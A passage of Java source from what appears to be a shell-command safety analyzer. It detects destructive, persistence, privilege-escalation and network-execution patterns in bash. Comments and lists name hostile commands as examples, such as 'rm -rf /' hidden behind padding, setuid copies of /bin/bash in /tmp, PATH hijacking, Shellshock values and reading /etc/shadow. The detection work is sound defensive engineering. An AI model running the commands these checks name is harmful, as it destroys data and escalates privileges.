                        ctx.inPipeline(), ctx.background(), ctx.callDepth(), ctx.loopDepth(), ctx.speculative());
                Stage st = process(a.invocation(), env, deeper, false);
                produced.addAll(st.invocations());
                last = st.invocations().get(st.invocations().size() - 1);
            } else if (n instanceof Nested.Code c) {
                String savedTree = treeContext;
                java.util.Set<String> savedItems = treeItems;
                if (inv.treeWalk()) {
                    // find ROOT … -exec sh -c 'rm "$0"' {} \;: the code's commands still act on the files of that walk
                    treeContext = inv.treeRoot();
                    treeItems = new java.util.HashSet<>();
                    for (Arg a : inv.args()) {
                        if (a.text().startsWith(inv.treePath())) {
                            treeItems.add(a.text());
                        }
                    }
                }
                try {
                    analyzeCode(c.text(), c.origin(), c.start(), c.end(), c.positional(), env, ctx, c.via());
                } finally {
                    treeContext = savedTree;
                    treeItems = savedItems;
                }
            } else if (n instanceof Nested.StdinCode sc) {
                stdinCode(inv, sc.via(), env, ctx);
            } else if (n instanceof Nested.CodeFile f) {
                codeFile(inv, f, env, ctx);
            } else if (n instanceof Nested.Foreign f) {
                foreign(f.language(), f.code(), f.origin(), f.start(), f.end(), env, ctx);
            }
        }
        if (!ctx.speculative() && !name.isEmpty() && blocking == blockingBefore) {
            if (!knownProgram(name)) {
                unknownWrapper(inv, env, ctx, inv.size(), "is not a known program");
            } else if (ExecWrappers.isWrapper(name)) {
                // a safety net under the wrapper table: words it took as option values are tried as the command too
                unknownWrapper(inv, env, ctx, commandStart(inv, nestedCode), "runs a command after its options");
            }
        }
        if (name.equals("xargs") || name.equals("parallel") && inv.args().stream().noneMatch(a -> a.startsWith(":::"))) {
            Invocation inner = Expansions.xargs(inv);
            if (inner != null && inner.name().equals("kill") && inv.stdin().piped()) {
                List<String> names = new ArrayList<>();
                for (Invocation up : Upstream.matches(inv.stdin().upstream(), PID_PRINTER)) {
                    names.addAll(PidLookup.names(up));
                }
                killByName(inner, names);
            }
            if (inner != null) {
                Stage st = process(inner, env, ctx, false);
                produced.addAll(st.invocations());
                // xargs prints what its command prints: where that comes from (curl: the network); its text is not
                // known, since the items stand for whatever the input holds
                Producers.Output own = Producers.output(inv);
                return new Stage(produced, new Producers.Output(null,
                        own.origin().max(st.output().origin()).max(Origin.LOCAL)));
            }
        } else if (name.equals("find")) {
            for (Invocation inner : Expansions.findActions(inv)) {
                Stage st = process(inner, env, ctx, false);
                produced.addAll(st.invocations());
            }
        }
        return new Stage(produced, last == inv ? Producers.output(inv) : Producers.output(last));
    }

    /** Whether the analyzer knows what this program does with its arguments (rules, wrapper tables, builtins). */
    private boolean knownProgram(String name) {
        return KNOWN.contains(name) || rules.knows(name) || name.startsWith("mkfs.") || name.startsWith("python")
                || name.startsWith("perl") || name.startsWith("ruby") || name.startsWith("php") || name.startsWith("node")
                || name.startsWith("lua");
    }

    /** Program names known apart from the rule book, in one set (asked for every invocation). */
    private static final java.util.Set<String> KNOWN = Nesting.knownNames();

    /** Where in the wrapper's argv the command it runs starts (its size when the table found none). */
    private static int commandStart(Invocation inv, List<Nested> nested) {
        for (Nested n : nested) {
            if (!(n instanceof Nested.Argv)) {
                return 0; // code given as a string (env -S, scl): nothing was taken for an option value
            }
            if (n instanceof Nested.Argv a && !a.invocation().argv().isEmpty()) {
                Arg first = a.invocation().arg(0);
                for (int i = 1; i < inv.size(); i++) {
                    if (inv.arg(i) == first) {
                        return i;
                    }
                }
            }
        }
        return inv.size();
    }

    /** How many positions of an unknown program's arguments are tried when the word there is not a strong candidate. */
    private static final int UNKNOWN_WRAPPER_TRIES = 3;

    /**
     * Programs that destroy or run further code (rm, dd, mkfs…, shells, interpreters, wrappers, eval): every position
     * holding one is tried, so padding with harmless program names ({@code frob cat cp mv rm -rf /}) hides nothing.
     */
    private static boolean strongCandidate(String name) {
        return CANDIDATES.contains(name) || name.startsWith("mkfs") || Nesting.knows(name);
    }

    /**
     * An unknown program may run its arguments ({@code frob rm -rf /}): the words from each known program name on
     * are judged as a command of their own, silently, and if that command would be blocked the unknown program is
     * {@code exec.unknown-wrapper} (REVIEW). Wrappers whose option syntax is known are unwrapped exactly instead
     * ({@link ExecWrappers}). Every strong candidate is tried and at most {@value #UNKNOWN_WRAPPER_TRIES} others; each
     * try is charged to the work budget, so a line full of candidates ends in {@code analysis.limit}.
     */
    private void unknownWrapper(Invocation inv, Env env, Ctx ctx, int before, String why) {
        int tries = 0;
        for (int k = 1; k < before; k++) {
            Arg a = inv.arg(k);
            if (!a.resolved() || a.text().isEmpty() || a.text().startsWith("-") || a.text().indexOf(' ') >= 0) {
                continue;
            }
            String cand = BashNames.basename(a.text());
            boolean strong = strongCandidate(cand);
            if (!strong && (tries >= UNKNOWN_WRAPPER_TRIES || !rules.mayBlock(cand))) {
                continue;
            }
            tries += strong ? 0 : 1;
            budget.steps(2 * (inv.size() - k)); // padding with many program names ends in the budget, not in silence
            java.util.Set<String> blocking = new java.util.TreeSet<>();
            Reporter saved = reporter;
            reporter = (id, start, end, detail) -> {
                // "vagrant halt", "qm shutdown 100": a power verb after an unknown program is its subcommand
                if (rules.dangerous(id) && !id.startsWith("power.")) {
                    blocking.add(id);
                }
            };
            Ctx spec = new Ctx(ctx.depth() + 1, ctx.spanStart(), ctx.spanEnd(), ctx.stdin(), ctx.functions(),
                    ctx.inPipeline(), ctx.background(), ctx.callDepth(), ctx.loopDepth(), true);
            try {
                process(inv.withArgv(new ArrayList<>(inv.argv().subList(k, inv.size()))), copyEnv(env), spec, false);
            } finally {
                reporter = saved;
                current = ctx;
            }
            if (!blocking.isEmpty()) {
                report(ctx, Structural.UNKNOWN_WRAPPER, inv.start(), inv.end(), "'" + inv.name() + "' " + why
                        + "; its arguments from '" + a.display() + "' on would be blocked as a command ("
                        + String.join(", ", blocking) + ")");
                return;
            }
        }
    }

    private static final java.util.regex.Pattern FUNCTION_VALUE = java.util.regex.Pattern.compile("^\\s*\\(\\)\\s*\\{");

    /**
     * A variable whose value is a function definition ({@code X='() { …; }; CMD'}): bash child processes import it, and
     * unpatched ones (Shellshock) run the code after the body as they start. The value is judged as code: the body as
     * a function and whatever follows it as commands.
     */
    private void functionValue(String var, Value v, int start, int end, Env env, Ctx ctx) {
        String text = v.isArray() ? null : v.scalar();
        if (text != null && FUNCTION_VALUE.matcher(text).find() && ctx.depth() < limits.maxCodeDepth()) {
            analyzeCode("f" + text.strip(), v.origin(), start, end, null, copyEnv(env), ctx, "function value of " + var);
        }
    }

    /** Above zero in a walker judging a command run inside a container ({@link #containerExec}). */
    private int containerNesting;

    /**
     * {@code kubectl|oc exec POD -- CMD} and {@code docker|podman exec C CMD}: the command runs in the container, not on
     * the host, so it is judged on its own and anything it would be flagged for becomes a review of the exec.
     */
    private void containerExec(Invocation inv, Ctx ctx) {
        List<Arg> cmd = ContainerRun.execCommand(inv);
        if (cmd == null || cmd.isEmpty() || containerNesting >= limits.maxCodeDepth() || ctx.speculative()) {
            return;
        }
        StringBuilder code = new StringBuilder();
        for (Arg a : cmd) {
            if (!a.resolved()) {
                return; // unknown words: the plain container rules already apply
            }
            code.append(code.length() == 0 ? "" : " ").append(quote(a.text()));
        }
        List<String> hits = new ArrayList<>();
        Walker inner = new Walker(rules, (id, start, end, detail) -> hits.add(id), limits, budget);
        inner.containerNesting = containerNesting + 1;
        inner.analyze(code.toString());
        current = ctx;
        if (!hits.isEmpty()) {
            report(ctx, "review.containers", inv.start(), inv.end(), "runs in a container: " + String.join(", ",
                    new java.util.TreeSet<>(hits)));
        }
    }

    /** Names whose PIDs a $(…) inside one of this invocation's arguments looked up. */
    private List<String> pidsFromSubstitutions(Invocation inv) {
        List<String> names = new ArrayList<>();
        for (Arg a : inv.args()) {
            for (PidSpan p : pidSubstitutions) {
                if (p.start() >= a.start() && p.end() <= a.end()) {
                    names.addAll(p.names());
                }
            }
        }
        return names;
    }

    /** A kill of looked-up PIDs signals those processes by name: judge it as the pkill it amounts to. */
    private void killByName(Invocation kill, List<String> names) {
        if (!names.isEmpty()) {
            rules.evaluate(PidLookup.asPkill(kill, names), reporter);
        }
    }

    /** Programs that load or run the file named by an operand (kernel modules, kernels, the dynamic loader). */
    private static final Set<String> EXECUTES_OPERAND = Set.of("insmod", "modprobe", "kexec", "ld.so",
            "ld-linux.so.2", "ld-linux-x86-64.so.2");

    /**
     * Code that runs later (start-up files, cron, at) and starts a program, or preloads a library, from a scratch
     * directory anyone can write: persistence of a dropped binary whatever its name.
     */
    private void scratchProgram(Invocation inv, Ctx ctx) {
        if (inv.argv().isEmpty()) {
            return;
        }
        Arg a0 = inv.arg(0);
        if (a0.resolved() && a0.text().startsWith("/") && Paths.place(a0)
                == Paths.Place.TEMP) {
            report(ctx, Structural.SCRATCH_PERSIST, inv.start(), inv.end(), "code run later starts " + a0.display());
            return;
        }
        for (Arg a : inv.args()) {
            String t = a.text();
            int eq = t.indexOf('=');
            if ((t.startsWith("LD_PRELOAD=") || t.startsWith("LD_LIBRARY_PATH=")) && eq + 1 < t.length()
                    && Paths.place(a.withText(t.substring(eq + 1)))
                    == Paths.Place.TEMP) {
                report(ctx, Structural.SCRATCH_PERSIST, a.start(), a.end(), "code run later preloads " + t.substring(eq + 1));
            }
            if (t.startsWith("PATH=") && scratchFirstInPath(t.substring(5))) {
                report(ctx, Structural.SCRATCH_PERSIST, a.start(), a.end(), "code run later looks programs up in " + t.substring(5));
            }
        }
    }

    /** PATH searched first in a directory anyone can write ({@code /tmp/.bin:$PATH}): every command can be hijacked. */
    private static boolean scratchFirstInPath(String path) {
        int colon = path.indexOf(':');
        String first = colon < 0 ? path : path.substring(0, colon);
        return first.startsWith("/") && Paths.place(Arg.literal(first, 0, 0)) == Paths.Place.TEMP;
    }

    /**
     * A file copied, linked or installed from another is that file for rules that judge what a file is:
     * {@code cp /bin/bash /tmp/b; chmod u+s /tmp/b} is judged as {@code chmod u+s /bin/bash}; {@code install -m 4755
     * SRC DST} as {@code chmod 4755 SRC}.
     */
    private void sameFileAs(Invocation inv) {
        String name = inv.name();
        if (name.equals("install")) {
            Arg mode = inv.optionValue('m', "--mode");
            List<Arg> ops = new ArrayList<>(inv.operands());
            ops.remove(mode);
            if (mode != null && mode.text().matches("[0-7]*[2467][0-7]{3}|.*[ug]\\+[rwx]*s.*") && ops.size() == 2) {
                rules.evaluate(inv.withArgv(List.of(inv.arg(0).withText("chmod"), mode, ops.get(0))), reporter);
            }
            return;
        }
        if (copiedPrograms.isEmpty() || !Set.of("chmod", "setcap", "chown", "chgrp").contains(name)) {
            return;
        }
        List<Arg> argv = new ArrayList<>(inv.argv());
        boolean changed = false;
        for (int i = 1; i < argv.size(); i++) {
            String t = argv.get(i).text();
            String original = copiedPrograms.get(t.startsWith("./") ? t.substring(2) : t);
            if (original != null) {
                argv.set(i, argv.get(i).withText(original));
                changed = true;
            }
        }
        if (changed) {
            rules.evaluate(inv.withArgv(argv), reporter);
        }
    }

    private static final List<String> STARTUP_SUFFIXES = List.of("/.bashrc", "/.profile", "/.bash_profile",
            "/.bash_login", "/.zshrc", "/.zprofile", "/.zshenv", "/.zlogin", "/etc/profile", "/etc/bash.bashrc",
            "/etc/bashrc", "/etc/rc.local", "/etc/crontab", "/config.fish", "/etc/environment");

    /** Text written into a start-up file or cron table is code that will run later: analyse it now. */
    private void persistedCode(Invocation inv, Env env, Ctx ctx) {
        String name = inv.name();
        if (!name.equals("echo") && !name.equals("printf") && !name.equals("tee") && !name.equals("cat")) {
            return;
        }
        List<Arg> targets = new ArrayList<>();
        for (Redir r : inv.redirects()) {
            if (r.writes()) {
                targets.add(r.target());
            }
        }
        if (name.equals("tee")) {
            targets.addAll(inv.operands());
        }
        for (Arg t : targets) {
            String p = t.text();
            boolean cron = p.startsWith("/etc/cron") || p.startsWith("/var/spool/cron") || p.endsWith("/etc/crontab");
            boolean startup = cron || p.startsWith("/etc/profile.d/") || p.startsWith("/etc/systemd/")
                    || STARTUP_SUFFIXES.stream().anyMatch(p::endsWith);
            if (!startup) {
                continue;
            }
            Producers.Output out = name.equals("tee") || name.equals("cat")
                    ? new Producers.Output(inv.stdin().content(), inv.stdin().origin()) : Producers.output(inv);
            String code = out.content();
            if (code != null) {
                analyzeCode(cron ? Expansions.cronCommands(code) : code, out.origin(), inv.start(), inv.end(), null, env,
                        ctx, "code written to " + p);
            }
            return;
        }
    }

    private void recordDownload(Invocation inv) {
        String name = inv.name();
        String url = null;
        for (Arg a : inv.args()) {
            if (a.text().contains("://")) {
                url = a.text();
            }
        }
        Arg out = null;
        if (name.equals("curl")) {
            out = inv.optionValue('o', "--output");
            if (out == null && url != null && (inv.hasOption('O', "--remote-name") || inv.hasArg("-O"))) {
                out = Arg.literal(BashNames.basename(url), 0, 0);
            }
        } else if (name.equals("tftp") || name.equals("busybox-tftp")) {
            Arg remote = inv.optionValue('r', null);
            out = inv.optionValue('l', null);
            if (out == null && remote != null && remote.resolved()) {
                out = Arg.literal(BashNames.basename(remote.text()), 0, 0);
            }
        } else if (name.equals("wget") || name.equals("aria2c") || name.equals("fetch")) {
            out = inv.optionValue('O', "--output-document");
            if (out == null && url != null) {
                Arg dir = name.equals("wget") ? inv.optionValue('P', "--directory-prefix") : inv.optionValue('d', "--dir");
                String base = BashNames.basename(url);
                out = Arg.literal(dir != null && dir.resolved() ? dir.text().replaceAll("/+$", "") + "/" + base : base, 0, 0);
            }
        }
        if (out != null && out.resolved() && !out.is("-")) {
            String f = out.text();
            downloaded.add(f.startsWith("./") ? f.substring(2) : f);
        }
    }

    private boolean isDownloaded(String path) {
        if (downloaded.isEmpty()) {
            return false;
        }
        return downloaded.contains(path.startsWith("./") ? path.substring(2) : path);
    }

    /** Every URL is HTTPS on a public code host (the shape of published installers). */
    private static boolean trustedUrl(Invocation inv) {
        boolean any = false;
        for (Arg a : inv.args()) {
            String t = a.text();
            if (t.contains("://")) {
                if (!t.matches("https://(raw\\.githubusercontent\\.com|raw\\.github\\.com|github\\.com|gitlab\\.com)/[^\\s]*")) {
                    return false;
                }
                any = true;
            }
        }
        return any;
    }

    private static String quote(String s) {
        if (!s.isEmpty() && s.chars().allMatch(ch -> Character.isLetterOrDigit(ch) || "-_./=:,+@%".indexOf(ch) >= 0)) {
            return s;
        }
        return "'" + s.replace("'", "'\\''") + "'";
    }

    private void dynamicName(Invocation inv, Env env, Ctx ctx) {
        Arg a0 = inv.arg(0);
        if (a0.origin() != Origin.NETWORK && (a0.origin() != Origin.DECODED || Nesting.opaque(a0.text()))) {
            report(ctx, Structural.DYNAMIC_COMMAND, a0.start(), a0.end(), "command name not known before run time: "
                    + a0.display());
        }
        if (ctx.speculative()) {
            return;
        }
        Ctx spec = new Ctx(ctx.depth(), ctx.spanStart(), ctx.spanEnd(), ctx.stdin(), ctx.functions(), ctx.inPipeline(),
                ctx.background(), ctx.callDepth(), ctx.loopDepth(), true);
        String globbed = globbedProgram(a0);
        if (globbed != null) {
            // "/s??n/mkfs.ext4": the glob only hides which system directory holds a named program
            List<Arg> argv = new ArrayList<>(inv.argv());
            argv.set(0, new Arg(globbed, a0.origin(), a0.start(), a0.end(), null));
            process(new Invocation(argv, inv.redirects(), inv.stdin(), inv.start(), inv.end(), true, inv.treeRoot(),
                    inv.depth()), copyEnv(env), spec, false);
        }
        boolean optionLike = false;
        for (Arg a : inv.args()) {
            String t = a.text();
            optionLike |= t.startsWith("-") || t.startsWith("of=") || t.startsWith("if=");
        }
        if (!optionLike && inv.redirects().isEmpty() && !inv.stdin().piped()) {
            return;
        }
        for (String cand : CANDIDATES) {
            if (!Speculation.plausible(cand, inv)) {
                continue;
            }
            if (a0.couldBe(cand) || a0.couldBe("/bin/" + cand) || a0.couldBe("/usr/bin/" + cand)
                    || a0.couldBe("/sbin/" + cand) || a0.couldBe("/usr/sbin/" + cand)) {
                List<Arg> argv = new ArrayList<>(inv.argv());
                argv.set(0, new Arg(cand, a0.origin(), a0.start(), a0.end(), null));
                Invocation guess = new Invocation(argv, inv.redirects(), inv.stdin(), inv.start(), inv.end(), true,
                        inv.treeRoot(), inv.depth());
                process(guess, copyEnv(env), spec, false);
            }
        }
    }

    private static final List<String> BIN_DIRS = List.of("/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/",
            "/usr/local/sbin/");

    /** The program a glob in a system directory names when only the directory part is a pattern, else null. */
    private static String globbedProgram(Arg a0) {
        String t = a0.text();
        int slash = t.lastIndexOf('/');
        if (slash < 0 || slash == t.length() - 1 || a0.hasUnknown() || !a0.isGlob()) {
            return null;
        }
        String base = t.substring(slash + 1);
        for (int i = 0; i < base.length(); i++) {
            if (Sentinels.isSentinel(base.charAt(i))) {
                return null;
            }
        }
        for (String dir : BIN_DIRS) {
            if (a0.couldBe(dir + base)) {
                return base;
            }
        }
        return null;
    }

    private void builtin(Invocation inv, Env env, Ctx ctx) {
        String name = inv.name();
        switch (name) {
            case "export", "declare", "typeset", "local", "readonly" -> {
                boolean array = inv.hasOption('a') || inv.hasOption('A');
                for (Arg a : inv.args()) {
                    String t = a.text();
                    int eq = t.indexOf('=');
                    if (t.startsWith("-") || eq <= 0) {
                        if (name.equals("export") && t.equals("-n")) {
                            continue;
                        }
                        continue;
                    }
                    String var = t.substring(0, eq);
                    boolean append = var.endsWith("+");
                    if (append) {
                        var = var.substring(0, var.length() - 1);
                    }
                    if (!BashNames.isName(var)) {
                        continue;
                    }
                    String val = t.substring(eq + 1);
                    if (!name.equals("export") && inv.hasOption('n') && BashNames.isName(val)) {
                        env.nameref(var, val);
                        continue;
                    }
                    Value v = array ? keyedElements(env, var, Value.array(List.of(val.split(" ")), a.origin()), append)
                            : Value.of(val, a.origin());
                    env.set(var, v);
                    specialVariable(var, v, a.start(), a.end(), env, ctx);
                    functionValue(var, v, a.start(), a.end(), env, ctx);
                }
            }
            case "unset" -> {
                for (Arg a : inv.args()) {
                    if (a.is("HISTFILE")) {
                        report(ctx, Structural.HISTORY_VARS, a.start(), a.end(), "shell history disabled (unset HISTFILE)");
                    }
                    if (!a.startsWith("-")) {
                        env.unset(a.text());
                    }
                }
            }
            case "set" -> {
                for (int i = 1; i < inv.size(); i++) {
                    if (inv.arg(i).is("--")) {
                        List<String> pos = new ArrayList<>();
                        Origin o = Origin.LITERAL;
                        for (int k = i + 1; k < inv.size(); k++) {
                            pos.add(inv.arg(k).text());
                            o = o.max(inv.arg(k).origin());
                        }
                        env.setPositional(pos, o);
                        return;
                    }
                    if (inv.arg(i).is("+o") && i + 1 < inv.size() && inv.arg(i + 1).is("history")) {
                        report(ctx, Structural.HISTORY_VARS, inv.start(), inv.end(), "shell history disabled (set +o history)");
                    }
                }
                if (inv.size() > 1 && !inv.arg(1).startsWith("-") && !inv.arg(1).startsWith("+")) {
                    List<String> pos = new ArrayList<>();
                    for (Arg a : inv.args()) {
                        pos.add(a.text());
                    }
                    env.setPositional(pos, Origin.LITERAL);
                }
            }
            case "shift" -> {
                int n = 1;
                if (inv.size() > 1 && inv.arg(1).text().matches("[0-9]{1,3}")) {
                    n = Integer.parseInt(inv.arg(1).text());
                }
                env.shift(n);
            }
            case "read" -> read(inv, env);
            case "mapfile", "readarray" -> {
                List<Arg> ops = inv.operands();
                String var = ops.isEmpty() ? "MAPFILE" : ops.get(ops.size() - 1).text();
                String content = inv.stdin().piped() ? inv.stdin().content() : null;
                if (content != null && inv.hasOption('t') && inv.args().stream().noneMatch(a -> a.is("-d"))) {
                    List<String> lines = new ArrayList<>(List.of(content.split("\n", -1)));
                    if (!lines.isEmpty() && lines.get(lines.size() - 1).isEmpty()) {
                        lines.remove(lines.size() - 1);
                    }
                    env.set(var, Value.array(lines, inv.stdin().origin()));
                } else {
                    env.set(var, Value.unknown(inv.stdin().origin().max(Origin.LOCAL)));
                }
                taint(var, secretUpstream(inv.stdin()));
            }
            case "printf" -> {
                if (inv.size() > 3 && inv.arg(1).is("-v")) {
                    String var = inv.arg(2).text();
                    String out = Producers.format(inv.arg(3).text(), inv.argv().subList(4, inv.size()));
                    Origin o = Origin.LITERAL;
                    for (Arg a : inv.args()) {
                        o = o.max(a.origin());
                    }
                    env.set(var, out == null ? Value.unknown(o) : Value.of(out, o));
                }
            }
            case "alias" -> {
                for (Arg a : inv.args()) {
                    int eq = a.text().indexOf('=');
                    if (eq > 0) {
                        env.defineAlias(a.text().substring(0, eq), a.text().substring(eq + 1));
                    }
                }
            }
            default -> {
            }
        }
    }

    /**
     * What each line read from {@code ls DIR} or {@code find DIR -maxdepth 1} stands for when DIR is / or a system
     * tree: any name in it (a glob), so {@code ls / | while read d; do rm -rf "/$d"; done} is judged like
     * {@code rm -rf /*}. Null for other input.
     */
    private static String listingPattern(Stdin in) {
        if (!in.piped() || in.upstream().size() != 1) {
            return null;
        }
        Invocation up = in.upstream().get(0);
        boolean ls = up.name().equals("ls") && up.size() == 2;
        boolean find = up.name().equals("find") && up.size() >= 2;
        if (!ls && !find) {
            return null;
        }
        Arg dir = up.arg(1);
        if (!dir.resolved() || !dir.text().startsWith("/")
                || Paths.critical(dir) != Paths.Critical.YES) {
            return null;
        }
        String star = String.valueOf(io.clituner.guardrails.expand.Sentinels.STAR);
        if (ls) {
            return star; // bare names
        }
        String root = Paths.normalize(dir.text());
        return (root.equals("/") ? "" : root) + "/" + star; // find prints full paths
    }

    private void taint(String var, boolean secret) {
        if (secret) {
            secretVars.add(var);
        } else {
            secretVars.remove(var);
        }
    }

    /** Whether the word expands a variable that holds secret data. */
    private boolean readsSecretVar(Ast.Word w) {
        if (secretVars.isEmpty()) {
            return false;
        }
        for (Ast.Part p : w.parts()) {
            if (p instanceof Ast.Param param && (secretVars.contains(param.name())
                    || param.arg() != null && readsSecretVar(param.arg()))) {
                return true;
            }
        }
        return false;
    }

    /** Whether a pipeline stage upstream of this one reads secrets (xxd -p /etc/shadow | while read l…). */
    private static boolean secretUpstream(Stdin in) {
        return in.piped() && Upstream.first(in.upstream(), SECRET_READER) != null;
    }

    private static final java.util.function.Predicate<Invocation> PID_PRINTER = up -> !PidLookup.names(up).isEmpty();

    /** A stage that prints secrets: the environment, or a secret file read by a program that passes it on. */
    private static final java.util.function.Predicate<Invocation> SECRET_READER = up -> {
        if (Programs.dumpsSecrets(up)) {
            return true;
        }
        if (READERS.contains(up.name())) {
            for (Arg a : up.operands()) {
                if (Paths.isSecret(a)) {
                    return true;
                }
            }
        }
        return false;
    };

    private void read(Invocation inv, Env env) {
        List<String> vars = new ArrayList<>();
        boolean array = false;
        String arrayName = null;
        boolean options = true;
        for (int i = 1; i < inv.size(); i++) {
            String t = inv.arg(i).text();
            if (options && t.equals("--")) {
                options = false;
            } else if (options && t.length() > 1 && t.charAt(0) == '-') {
                // a getopt cluster: "-ra NAME", "-rp PROMPT", "-aNAME"
                for (int k = 1; k < t.length(); k++) {
                    char c = t.charAt(k);
                    if ("adpntuNei".indexOf(c) < 0) {
                        continue;
                    }
                    String value = k + 1 < t.length() ? t.substring(k + 1) : i + 1 < inv.size() ? inv.arg(++i).text() : null;
                    if (c == 'a' && value != null) {
                        array = true;
                        arrayName = value;
                    }
                    break;
                }
            } else {
                options = false;
                vars.add(t);
            }
        }
        Stdin in = inv.stdin();
        boolean secret = secretUpstream(in);
        for (String v : vars.isEmpty() ? List.of("REPLY") : vars) {
            taint(v, secret);
        }
        if (arrayName != null) {
            taint(arrayName, secret);
        }
        Origin o = in.piped() ? in.origin() : Origin.UNSET;
        String content = in.content();
        if (content != null) {
            int nl = content.indexOf('\n');
            String line = nl >= 0 ? content.substring(0, nl) : content;
            String ifs = readIfs != null ? readIfs : env.get("IFS").scalar();
            List<int[]> fields = ifsFields(line, ifs == null || ifs.indexOf(Sentinels.UNKNOWN) >= 0 ? " \t\n" : ifs);
            if (array && arrayName != null) {
                List<String> words = new ArrayList<>(fields.size());
                for (int[] f : fields) {
                    words.add(line.substring(f[0], f[1]));
                }
                env.set(arrayName, Value.array(words, o));
                return;
            }
            if (vars.isEmpty()) {
                env.set("REPLY", Value.of(line, o));
            }
            for (int k = 0; k < vars.size(); k++) {
                String v = k >= fields.size() ? ""
                        : k < vars.size() - 1 ? line.substring(fields.get(k)[0], fields.get(k)[1])
                        : line.substring(fields.get(k)[0], fields.get(fields.size() - 1)[1]); // the last name takes the rest
                env.set(vars.get(k), Value.of(v, o));
            }
            return;
        }
        if (arrayName != null) {
            env.set(arrayName, Value.unknown(o.max(Origin.LOCAL)));
        }
        String listed = listingPattern(in);
        for (String v : vars.isEmpty() ? List.of("REPLY") : vars) {
            env.set(v, listed != null && vars.size() <= 1 ? Value.of(listed, Origin.LOCAL) : Value.unknown(o.max(Origin.LOCAL)));
        }
    }

    /** The fields bash's read splits a line into: IFS whitespace runs and each other IFS character delimit. */
    static List<int[]> ifsFields(String line, String ifs) {
        List<int[]> out = new ArrayList<>();
        int n = line.length();
        int i = 0;
        while (i < n && ifs.indexOf(line.charAt(i)) >= 0 && Character.isWhitespace(line.charAt(i))) {
            i++;
        }
        int start = i;
        while (i <= n) {
            if (i == n || ifs.indexOf(line.charAt(i)) >= 0) {
                if (i > start || i < n && !Character.isWhitespace(line.charAt(i))) {
                    out.add(new int[] {start, i});
                }
                if (i == n) {
                    break;
                }
                boolean hard = !Character.isWhitespace(line.charAt(i));
                i++;
                while (i < n && ifs.indexOf(line.charAt(i)) >= 0 && Character.isWhitespace(line.charAt(i))) {
                    i++;
                }
                if (!hard && i < n && ifs.indexOf(line.charAt(i)) >= 0) {
                    i++; // whitespace around one non-whitespace delimiter counts once
                    while (i < n && ifs.indexOf(line.charAt(i)) >= 0 && Character.isWhitespace(line.charAt(i))) {
                        i++;
                    }
                }
                start = i;
                continue;
            }
            i++;
        }
        return out;
    }

    // ------------------------------------------------------------------ nested code

    private void analyzeCode(String text, Origin origin, int start, int end, List<String> positional, Env env, Ctx ctx,
                             String via) {
        if (origin.hostile()) {
            report(ctx, Structural.HOSTILE_CODE, start, end, via + " runs " + origin.name().toLowerCase() + " code");
        }
        if (text == null || Nesting.opaque(text)) {
            if (!origin.hostile()) {
                boolean evalLike = via.equals("eval") || via.endsWith(" -c") || via.equals("source") || via.equals(".")
                        || via.endsWith("reading stdin") && Programs.isShell(via.substring(0, via.indexOf(' ')))
                        || via.equals("PROMPT_COMMAND");
                report(ctx, origin == Origin.UNSET && evalLike ? Structural.DYNAMIC_CODE : Structural.LOCAL_CODE, start, end,
                        via + " runs code not known before run time");
            }
            return;
        }
        if (ctx.depth() >= limits.maxCodeDepth()) {
            report(ctx, Structural.LIMIT, start, end, "code nested more than " + limits.maxCodeDepth() + " levels deep");
            return;
        }
        budget.bytes(text.length());
        Env inner = copyEnv(env);
        if (positional != null && via.endsWith(" -c") && !positional.isEmpty() && Programs.isShell(via.substring(0, via.length() - 3))) {
            inner.setArgZero(positional.get(0)); // sh -c CODE NAME ARGS…: NAME is $0
            inner.setPositional(positional.subList(1, positional.size()), origin);
        } else if (positional != null) {
            inner.setPositional(positional, origin);
        }
        int ss = ctx.spanStart() >= 0 ? ctx.spanStart() : start;
        int se = ctx.spanStart() >= 0 ? ctx.spanEnd() : end;
        Ctx nested = new Ctx(ctx.depth() + 1, ss, se, ctx.stdin(), ctx.functions(), ctx.inPipeline(), ctx.background(),
                ctx.callDepth(), ctx.loopDepth(), ctx.speculative());
        Ctx saved = current;
        boolean later = via.startsWith("code written to ") || via.equals("crontab reading stdin")
                || via.equals("at reading stdin") || via.equals("batch reading stdin");
        deferred += later ? 1 : 0;
        try {
            analyzeSource(text, inner, nested, ss, se);
        } finally {
            deferred -= later ? 1 : 0;
        }
        current = saved;
    }

    private void stdinCode(Invocation inv, String via, Env env, Ctx ctx) {
        Stdin in = inv.stdin();
        if (!in.piped()) {
            return;
        }
        String content = in.content();
        if (content != null && via.equals("crontab")) {
            content = Expansions.cronCommands(content);
        }
        boolean bash = Programs.isShell(via) || Set.of("at", "batch", "crontab", "parallel").contains(via);
        if (!bash) {
            if (in.origin().hostile()) {
                report(ctx, Structural.HOSTILE_CODE, inv.start(), inv.end(), via + " runs " + in.origin().name().toLowerCase()
                        + " code from its input");
            } else if (content != null) {
                foreign(Nesting.language(via), content, in.origin(), inv.start(), inv.end(), env, ctx);
            } else {
                report(ctx, in.origin() == Origin.UNSET ? Structural.DYNAMIC_CODE : Structural.LOCAL_CODE, inv.start(),
                        inv.end(), via + " runs a program read from its input");
            }
            return;
        }
        analyzeCode(content, in.origin(), inv.start(), inv.end(), null, env, ctx.withStdin(Stdin.TERMINAL),
                via + " reading stdin");
    }

    private void codeFile(Invocation inv, Nested.CodeFile f, Env env, Ctx ctx) {
        Arg file = f.file();
        if (file.procSub() != null) {
            Producers.Output o = procSubOutputs.get(file.start());
            analyzeCode(o == null ? null : o.content(), file.procSub(), file.start(), file.end(), null, env, ctx,
                    f.via() + " <(…)");
            return;
        }
        String t = file.text();
        if (isDownloaded(t)) {
            report(ctx, Structural.DOWNLOAD_EXEC, file.start(), file.end(), f.via() + " runs a file downloaded earlier");
        }
        String script = writtenFiles.get(t.startsWith("./") ? t.substring(2) : t);
        if (script == null && !isDownloaded(t) && file.resolved() && t.startsWith("/")
                && Paths.place(file) == Paths.Place.TEMP) {
            report(ctx, Structural.SCRATCH_SCRIPT, file.start(), file.end(), f.via() + " runs " + t
                    + ", a file in a directory anyone can write");
        }
        if (script != null && Programs.isShell(f.via()) || script != null && (f.via().equals("source") || f.via().equals("."))) {
            analyzeCode(script, Origin.LITERAL, file.start(), file.end(), null, env, ctx, f.via() + " " + t);
        }
        if (t.equals("/dev/stdin") || t.equals("-") || t.equals("/dev/fd/0") || t.equals("/proc/self/fd/0")) {
            stdinCode(inv, f.via(), env, ctx);
        } else if (t.startsWith("/dev/tcp/") || t.startsWith("/dev/udp/")) {
            report(ctx, Structural.HOSTILE_CODE, file.start(), file.end(), f.via() + " runs code read from the network");
